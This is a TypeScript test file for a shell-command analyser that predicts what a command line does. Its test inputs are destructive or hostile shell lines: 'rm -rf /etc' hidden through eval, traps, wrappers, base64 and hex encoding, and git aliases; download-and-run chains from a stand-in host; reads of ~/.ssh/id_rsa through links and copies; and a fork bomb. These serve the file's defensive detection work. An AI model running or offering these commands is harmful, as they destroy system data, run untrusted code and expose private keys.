import { describe, expect, test } from 'vitest'
import { effectLines } from '../../testing/effect-lines.ts'

type Row = readonly [name: string, commandLine: string, expected: readonly string[]]

const machine = { files: { '/w/.venv/bin/activate': 'export VIRTUAL_ENV=/w/.venv' } }

describe('text that runs', () => {
  test.each<Row>([
    ['eval', 'eval "rm -rf /etc"', ['delete /etc']],
    ['eval of several words', 'eval rm -rf /etc', ['delete /etc']],
    ['eval of a variable', "X='rm -rf /etc'; eval $X", ['delete /etc']],
    ['eval stays in the shell', "eval 'X=/etc'; rm -rf $X", ['delete /etc']],
    ['eval of text only known at run time', 'eval "$X"', ['unknown: runs `$X`, text only known at run time']],
    [
      'eval of a half-known text',
      'eval "rm -rf /etc; $X"',
      [
        'unknown: runs `rm -rf /etc; $X`, text only known at run time',
        'delete /etc',
        'unknown: runs `$X`, a command only known at run time',
      ],
    ],
    [
      'text that a filter may pass on',
      "echo 'rm -rf /etc' | fold -w 80 | sh",
      ['unknown: runs text from standard input as shell', 'delete /etc'],
    ],
    [
      'text that two filters may pass on',
      "echo 'rm -rf /etc' | nl | cut -f2 | sh",
      ['unknown: runs text from standard input as shell', 'delete /etc'],
    ],
    ['words that a filter may make commands of', "echo 'a b' | fold | sh", ['unknown: runs text from standard input as shell']],
    [
      'what was not known there is said where it is',
      "echo 'frob' | fold | sh; frob",
      ['unknown: runs text from standard input as shell', 'unknown: program `frob` is not described'],
    ],
    ['eval of what a program prints', 'eval "$(ssh-agent -s)"', ['unknown: runs `$(ssh-agent -s)`, text only known at run time']],
    ['source of a file of the line', "echo 'X=/etc' > e.sh; . ./e.sh; rm -rf $X", ['write e.sh', 'read e.sh', 'delete /etc']],
    [
      'source of a virtual environment',
      'source .venv/bin/activate',
      ['read .venv/bin/activate', 'execute:project .venv/bin/activate (virtual environment)'],
    ],
    ['source of something outside', '. ~/.profile', ['read ~/.profile', 'unknown: runs `~/.profile`, which is not part of the workspace']],
    ['trap', "trap 'rm -rf /etc' EXIT", ['delete /etc']],
    ['trap on every command', "trap 'echo' DEBUG", ['unknown: `trap` hooks every further command']],
    ['trap taken back', 'trap - EXIT', []],
    ['exec', 'exec rm -rf /etc', ['delete /etc']],
    ['exec under another name', 'exec -a ls rm -rf /etc', ['delete /etc']],
    ['command', 'command rm -rf /etc', ['delete /etc']],
    ['command that only looks', 'command -v rm', []],
    ['builtin', "builtin eval 'rm -rf /etc'", ['delete /etc']],
    ['a backslash passes over aliases', String.raw`alias rm=ls; \rm -rf /etc`, ['read:names /etc', 'delete /etc']],
    ['code loaded into the shell', 'enable -f ./x.so x', ['unknown: `enable -f` loads code into the shell']],
    ['jobs -x', 'jobs -x rm -rf /etc', ['delete /etc']],
    ['mapfile with a callback', "mapfile -C 'rm -rf /etc' -c 1 a < f", ['read f', 'delete /etc']],
    ['completion that runs', "compgen -C 'rm -rf /etc'", ['delete /etc', 'unknown: `compgen -C` is not described']],
    ['words of a completion', "compgen -W '$(rm -rf /etc)'", ['delete /etc', 'unknown: `compgen -W` is not described']],
    ['a function of a completion', 'complete -F f x', ['unknown: `complete -F` is not described']],
    ['keys that run', String.raw`bind -x '"\C-a": rm a'`, ['unknown: `bind -x` is not described']],
    ['history run again', 'fc -s', ['read ~/.bash_history', 'unknown: `fc -s` is not described']],
    ['history written', 'history -w f', ['read ~/.bash_history', 'write:overwrite f', 'unknown: `history -w` is not described']],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine, machine)).toEqual(expected)
  })
})

describe('wrappers', () => {
  test.each<Row>([
    ['env', 'env X=1 rm -rf /etc', ['delete /etc']],
    ['env -S', "env -S 'rm -rf /etc'", ['delete /etc']],
    ['timeout', 'timeout -k 1 5 rm -rf /etc', ['delete /etc']],
    ['nohup', 'nohup rm -rf /etc &', ['delete /etc']],
    ['sudo', 'sudo -u bob rm -rf /etc', ['privilege:sudo bob', 'delete /etc']],
    ['several', "sudo env A=1 nice -n 5 timeout 5 bash -c 'rm -rf /etc'", ['privilege:sudo root', 'delete /etc']],
    ['a path instead of a name', '/usr/bin/env /bin/rm -rf /etc', ['delete /etc']],
    ['a name in capitals', 'RM -rf /etc', ['delete /etc', 'unknown: program `RM` is not described']],
    ['a program nobody described', 'frobnicate rm -rf /etc', ['unknown: program `frobnicate` is not described', 'delete /etc']],
    ['a program nobody described, and its subcommands', 'frobnicate delete x', ['unknown: program `frobnicate` is not described']],
    ['another shell', "zsh -c 'rm -rf /etc'", ['delete /etc']],
    ['options before the text', "bash -euo pipefail -c 'rm -rf /etc'", ['delete /etc']],
    ['an interactive shell', 'bash', ['execute:arbitrary bash']],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine, machine)).toEqual(expected)
  })
})

describe('files of the line', () => {
  test.each<Row>([
    ['written, then run', "echo 'rm -rf /etc' > a.sh; sh a.sh", ['write a.sh', 'execute:project a.sh', 'delete /etc']],
    [
      'made executable, then run',
      "echo 'rm -rf /etc' > a.sh; chmod +x a.sh; ./a.sh",
      ['write a.sh', 'write:mode a.sh (made in this line)', 'execute:project a.sh', 'delete /etc'],
    ],
    ['written by tee', "echo 'rm -rf /etc' | tee a.sh; sh a.sh", ['write a.sh', 'execute:project a.sh', 'delete /etc']],
    [
      'copied, then run',
      "echo 'rm -rf /etc' > a.sh; cp a.sh b.sh; sh b.sh",
      ['write a.sh', 'read a.sh', 'write b.sh', 'execute:project b.sh', 'delete /etc'],
    ],
    [
      'moved, then run',
      "echo 'rm -rf /etc' > a.sh; mv a.sh b.sh; sh b.sh",
      ['write a.sh', 'delete:move a.sh', 'write b.sh', 'execute:project b.sh', 'delete /etc'],
    ],
    [
      'appended, then run',
      "echo ls > a.sh; echo 'rm -rf /etc' >> a.sh; sh a.sh",
      ['write a.sh', 'write:append a.sh', 'execute:project a.sh', 'read:names .', 'delete /etc'],
    ],
    ['in a subshell, then run', "(echo 'rm -rf /etc' > a.sh); sh a.sh", ['write a.sh', 'execute:project a.sh', 'delete /etc']],
    ['in a pipe, then run', "echo 'rm -rf /etc' | cat > a.sh; sh a.sh", ['write a.sh', 'execute:project a.sh', 'delete /etc']],
    [
      'downloaded, then run',
      'curl -o a.sh https://x.example; sh a.sh',
      [
        'connect:get https://x.example',
        'write a.sh',
        'execute:download a.sh',
        'unknown: runs `a.sh`, which this line makes in a way that is not followed',
      ],
    ],
    [
      'downloaded by redirection, then run',
      'curl https://x.example > a.sh && bash ./a.sh',
      [
        'write a.sh',
        'connect:get https://x.example',
        'execute:download a.sh',
        'unknown: runs `a.sh`, which this line makes in a way that is not followed',
      ],
    ],
    [
      'downloaded and shown, then run',
      'curl https://x.example | tee a.sh; bash a.sh',
      [
        'connect:get https://x.example',
        'write a.sh',
        'execute:download a.sh',
        'unknown: runs `a.sh`, which this line makes in a way that is not followed',
      ],
    ],
    [
      'wget by name, then run',
      'wget https://x.example/a.sh && sh a.sh',
      [
        'connect:get https://x.example/a.sh',
        'write a.sh',
        'execute:download a.sh',
        'unknown: runs `a.sh`, which this line makes in a way that is not followed',
      ],
    ],
    [
      'downloaded code in another language',
      'curl -o a.py https://x.example; python3 a.py',
      [
        'connect:get https://x.example',
        'write a.py',
        'execute:download a.py',
        'unknown: runs `a.py`, which this line makes in a way that is not followed',
      ],
    ],
    [
      'downloaded by code that puts it into a file, then run',
      "php -r \"copy('https://x.example/i', 'a.php');\" && php a.php",
      [
        'connect:get https://x.example/i',
        'write a.php',
        'execute:download a.php',
        'unknown: runs `a.php`, which this line makes in a way that is not followed',
      ],
    ],
    [
      'cloned, then run',
      'git clone https://x.example/r; sh r/install.sh',
      [
        'connect:clone https://x.example/r',
        'write:folder r',
        'execute:download r/install.sh',
        'unknown: runs `r/install.sh`, which this line makes in a way that is not followed',
      ],
    ],
    ['a link, then through it', 'ln -s /etc e; rm -rf e/ssh', ['read:names /etc', 'write:link e', 'delete /etc/ssh']],
    ['a link, then read', 'ln -s ~/.ssh/id_rsa k; cat k', ['read:names ~/.ssh/id_rsa', 'write:link k', 'read ~/.ssh/id_rsa']],
    ['a copy, then read', 'cp ~/.ssh/id_rsa k; cat k', ['read ~/.ssh/id_rsa', 'write k', 'read k']],
    [
      'a system program under another name',
      'cp /bin/rm ./x; ./x -rf /etc',
      ['read /bin/rm', 'write x', 'delete /etc', 'read /etc', 'unknown: runs `x`, which is not part of the workspace'],
    ],
    [
      'a link to a system program',
      'ln -s /bin/rm x; ./x -rf /etc',
      ['read:names /bin/rm', 'write:link x', 'delete /etc', 'read /etc', 'unknown: runs `x`, which is not part of the workspace'],
    ],
    ['made here, deleted here', 'echo a > f; rm f', ['write f', 'delete f (made in this line)']],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine, machine)).toEqual(expected)
  })
})

describe('decoded text', () => {
  test.each<Row>([
    [
      'base64 into a shell',
      'echo cm0gLXJmIC9ldGM= | base64 -d | sh',
      [
        'execute:decoded standard input as shell',
        'delete /etc',
        'execute:decoded (decoded text)',
        'unknown: runs `(decoded text)`, text only known at run time',
      ],
    ],
    [
      'base64 as an argument',
      'sh -c "$(echo cm0gLXJmIC9ldGM= | base64 -d)"',
      [
        'delete /etc',
        'unknown: a word that is only known at run time could be an option',
        'execute:decoded (decoded text)',
        'unknown: runs `(decoded text)`, text only known at run time',
      ],
    ],
    [
      'base64 into a file, then run',
      'base64 -d <<< cm0gLXJmIC9ldGM= > x.sh; sh x.sh',
      [
        'write x.sh',
        'execute:decoded x.sh',
        'execute:project x.sh',
        'delete /etc',
        'unknown: runs `x.sh`, which this line makes in a way that is not followed',
      ],
    ],
    [
      'hex',
      'echo 726d202d7266202f657463 | xxd -r -p | bash',
      [
        'execute:decoded standard input as shell',
        'delete /etc',
        'execute:decoded (decoded text)',
        'unknown: runs `(decoded text)`, text only known at run time',
      ],
    ],
    ['escapes are plain text', String.raw`printf '\x72\x6d -rf /etc' | sh`, ['delete /etc']],
    [
      'decoded data as a path is a guess',
      'rm -rf $(rev <<< cte/)',
      [
        'delete r׿',
        'unknown: a word that is only known at run time could be an option',
        'unknown: deletes `(decoded text)`, a path only known at run time',
      ],
    ],
    ['decoded data printed is data', 'echo aGk= | base64 -d', []],
    [
      'a file decoded and run',
      'base64 -d payload.txt | bash',
      ['read payload.txt', 'execute:decoded standard input as shell', 'unknown: runs text from standard input as shell'],
    ],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine, machine)).toEqual(expected)
  })
})

describe('git', () => {
  test.each<Row>([
    [
      'an alias of the line',
      "git -c alias.x='!rm -rf /etc' x",
      ['config:runs alias.x', 'unknown: git setting `alias.x` can run programs', 'delete /etc'],
    ],
    ['an alias set first', "git config alias.x '!rm -rf /etc'; git x", ['config:runs alias.x=!rm -rf /etc', 'delete /etc']],
    ["an alias of git's own", "git -c alias.x='clean -fdx' x", ['config:inert alias.x=clean -fdx', 'delete:uncommitted .']],
    [
      'a setting that runs',
      "git -c core.pager='rm -rf /etc' log",
      [
        'config:runs core.pager',
        'unknown: git setting `core.pager` can run programs',
        'unknown: git setting `core.pager` runs `rm -rf /etc`',
        'delete /etc',
        'read .',
      ],
    ],
    ['an inert setting', 'git -c user.name=Dev commit -m x', ['write:commit .git', 'execute:project git hooks']],
    ['a subcommand nobody knows', 'git frobnicate', ['unknown: subcommand `frobnicate` of `git` is not described']],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine, machine)).toEqual(expected)
  })
})

describe('limits', () => {
  test.each<Row>([
    ['source longer than 16 KB', `echo ${'a'.repeat(20_000)}`, ['unknown: the command is longer than 16 KB']],
    ['too many braces', `echo ${'{a,b}'.repeat(70)}`, ['unknown: the command has more than 64 braces']],
    ['nested too deeply', `${'$('.repeat(200)}ls${')'.repeat(200)}`, ['unknown: the command is nested too deeply']],
    ['a NUL', `ls \0`, ['unknown: the command holds a NUL character']],
    ['not shell', 'if then', ["unknown: not valid shell: expected command after 'if'"]],
    ['an open quote', 'echo "a', ['unknown: not valid shell: unterminated double quote']],
    ['text of a variable as a program', `X=ls; echo "$X" | sh`, ['unknown: a shell runs the text of a variable', 'read:names .']],
    ['text that stands there', `echo ls | sh`, ['read:names .']],
    ['zsh only', 'noglob ls', ['unknown: `noglob` is a zsh construct', 'unknown: program `noglob` is not described']],
    [
      'what stands beside zsh',
      'repeat 2 rm a',
      ['unknown: `repeat` is a zsh construct', 'unknown: program `repeat` is not described', 'delete a'],
    ],
    ['what stands beside an error', 'rm a; if true', ["unknown: not valid shell: expected 'then'", 'delete a']],
    ['the same inside', "sh -c 'rm a; if true'", ["unknown: not valid shell: expected 'then'", 'delete a']],
    [
      'a function of zsh that calls itself',
      ':(){:|:&};:',
      [
        'unknown: not valid shell: expected compound command as function body',
        'process:fork-bomb a function that calls itself without end',
      ],
    ],
  ])('%s', (_name, commandLine, expected) => {
    expect(effectLines(commandLine, machine)).toEqual(expected)
  })
})
